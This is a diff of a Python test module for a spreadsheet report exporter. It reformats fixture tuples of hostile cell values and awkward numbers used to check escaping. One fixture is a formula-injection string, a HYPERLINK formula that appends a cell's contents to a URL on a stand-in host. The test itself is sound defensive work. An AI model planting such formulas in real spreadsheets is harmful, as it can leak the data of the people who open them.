@@ -19,7 +19,20 @@ from reports.build import build_report
 from reports.document import Act, Hole, Out, Report
 
 FORMULA = '=HYPERLINK("http://x.test/?"&A1,"see")'
-NASTY = (FORMULA, "+1", "-1", "@SUM(A1)", "\ta", "\rb", "'=1", "a\nb", 'a "b", c', "भैंस 牛 𝄞", "_x000D_", "\x07&<>")
+NASTY = (
+    FORMULA,
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\ta",
+    "\rb",
+    "'=1",
+    "a\nb",
+    'a "b", c',
+    "भैंस 牛 𝄞",
+    "_x000D_",
+    "\x07&<>",
+)
 
 
 @cache
@@ -52,7 +65,9 @@ def eventful() -> Report:
         holes=(Hole(device="d-van-1", channel="", from_at=NOW, until_at=NOW + 1, missing=3, cause="lost"),),
         alarms=(_alarm(),),
         given=(Given(version=1, final=False, cause="leg", recorded_at=NOW, verdict=verdict),),
-        acts=tuple(_act(at, kind) for at, kind in enumerate(("merged", "loaded", "split", "refused", "delivered"))),
+        acts=tuple(
+            _act(at, kind) for at, kind in enumerate(("merged", "loaded", "split", "refused", "delivered"))
+        ),
         quarantined={"bad-pack": 3},
         readings_sha256="ab" * 32,
         chain_head="cd" * 32,
@@ -60,8 +75,21 @@ def eventful() -> Report:
 
 
 def nasty_readings() -> list[Reading]:
-    """Return readings with a hostile note each, one without a value, and the numbers that are hard to write."""
-    values = (-0.0, 1e-7, 1e22, 0.1 + 0.2, 5e-324, float("nan"), float("inf"), 3.0, -4.25, 1 / 3, 2**53 + 0.0, 7.0)
+    """Return readings with a hostile note each, one without a value, and numbers that are hard to write."""
+    values = (
+        -0.0,
+        1e-7,
+        1e22,
+        0.1 + 0.2,
+        5e-324,
+        float("nan"),
+        float("inf"),
+        3.0,
+        -4.25,
+        1 / 3,
+        2**53 + 0.0,
+        7.0,
+    )
     return [
         Reading(
             device="d-1",
@@ -86,7 +114,7 @@ def sheet(body: bytes, name: str) -> list[tuple[Any, ...]]:
 
 
 def shown(cell: object) -> str:
-    """Return a text as a program for spreadsheets shows it: openpyxl leaves two of three escapes as they are."""
+    """Return a text as a program for spreadsheets shows it: openpyxl leaves some escapes."""
     text = str(cell or "")
     return text if text == "_x000D_" else text.replace("_x000D_", "\r").replace("_x0007_", "\x07")
 
@@ -148,7 +176,9 @@ def _alarm() -> AlarmStory:
                 error="busy",
             ),
         ),
-        actions=(Action(action="ack", by="grace", via="web", at=NOW - 2 * MINUTE, comment="-1", until_at=None),),
+        actions=(
+            Action(action="ack", by="grace", via="web", at=NOW - 2 * MINUTE, comment="-1", until_at=None),
+        ),
     )
 
 
